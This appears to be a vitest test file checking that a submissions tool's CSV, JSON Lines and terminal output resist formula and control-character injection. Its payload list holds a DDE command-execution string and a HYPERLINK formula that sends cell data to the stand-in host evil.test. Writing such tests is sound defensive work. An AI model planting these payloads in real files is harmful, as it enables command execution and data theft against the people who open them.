import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { saveSubmission } from '#netlify/records/submissions.ts';
import { createSubmissionId } from '#netlify/http/submission-id.ts';
import { live } from '#netlify/environment/runtime.ts';
import { openStore } from '#netlify/records/store.ts';
import { temporaryFolder } from '#tests/netlify/local/fixtures/temporary-folder.ts';
import { readCsv } from '#tests/domain/shared/read-csv.ts';
import { run } from '#tests/scripts/submissions/command-line.ts';
import { diskFetch, NOON } from './world.ts';

const CELLS = 200;
const STARTS = ['=', '+', '-', '@', '\t', '\0', '"', '\r', '\n', '＝', '＋', '－', '＠', "'"];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.test/?"&A1,"click")',
  '1+1',
  '"",\r\n"=2+2"',
  'SUM(1,2);=3+3',
  '-1\n=1+1,"',
  ' \u202etxt',
  '',
];
/** Every start before every payload, and again, until there are 200. */
const hostile = Array.from({ length: CELLS }, (_, n) => {
  const payload = PAYLOADS[Math.floor(n / STARTS.length) % PAYLOADS.length] ?? '';
  return `${STARTS[n % STARTS.length] ?? ''}${payload}${n}`;
});
const RUNS_AS_FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/;
/** As a reader sees it that takes every semicolon, tab and break for the end of a cell. */
const parts = (text: string) => text.split(/[,;\t\r\n]/);
const withoutApostrophes = (text: string) => text.replaceAll("'", '');

/** Records as they may have been stored before a rule of today: hostile in every text of theirs. */
async function hostileData() {
  const data = await temporaryFolder();
  const blobsFetch = diskFetch(join(data, 'blobs'));
  const store = openStore('submissions', { ...live, blobsFetch });
  for (const [n, text] of hostile.entries()) {
    await saveSubmission(store, {
      id: createSubmissionId(NOON + n),
      formType: 'contact',
      email: text,
      fields: { name: text, email: text, message: text, source: text, extra: [text] },
      fingerprint: String(n),
      isSuspicious: false,
      now: NOON,
    });
  }
  return data;
}

describe('200 hostile texts in every column', () => {
  it('are exported as CSV that no spreadsheet runs and every reader reads back', async () => {
    const data = await hostileData();
    const args = [
      'export',
      '--format',
      'csv',
      '--form',
      'contact',
      '--out',
      'x.csv',
      '--data',
      '.',
    ];
    expect((await run(args, { folder: data })).code).toBe(0);
    const [header = [], ...rows] = readCsv(await readFile(join(data, 'x.csv'), 'utf8'));
    expect(rows).toHaveLength(CELLS);
    for (const [at, row] of rows.entries()) {
      const text = hostile[at] ?? '';
      expect(row).toHaveLength(header.length);
      expect(row.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
      expect(row.flatMap(parts).filter((part) => RUNS_AS_FORMULA.test(part))).toEqual([]);
      const cell = (name: string) => row[header.indexOf(name)] ?? '';
      for (const name of ['email', 'source', 'name', 'message']) {
        expect(withoutApostrophes(cell(name))).toBe(withoutApostrophes(text));
      }
      expect(JSON.parse(cell('other_fields'))).toEqual({ extra: [text] });
    }
    expect((await readdir(data)).sort()).toEqual(['blobs', 'x.csv']);
  });

  it('are exported as JSON Lines exactly as they were sent', async () => {
    const data = await hostileData();
    const { out } = await run(['export', '--format', 'jsonl', '--data', data]);
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(CELLS);
    const context = (text: string) => ({ name: text, message: text, email: text, source: text });
    for (const [at, line] of lines.entries()) {
      const text = hostile[at] ?? '';
      expect(JSON.parse(line)).toMatchObject({ email: text, signup_context: context(text) });
    }
  });

  it('do nothing to a terminal, in any command', async () => {
    const data = await hostileData();
    const texts = await Promise.all(
      [
        ['list', '--limit', '0'],
        ['list', '--json'],
        ['search', '1'],
        ['delete', '--email', 'a@b.c'],
      ].map(async (args) => run([...args, '--data', data], { terminal: 100 })),
    );
    for (const { out } of texts) {
      expect(out).not.toMatch(/[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|(?!\n)\p{Cc}/u);
    }
  });
});
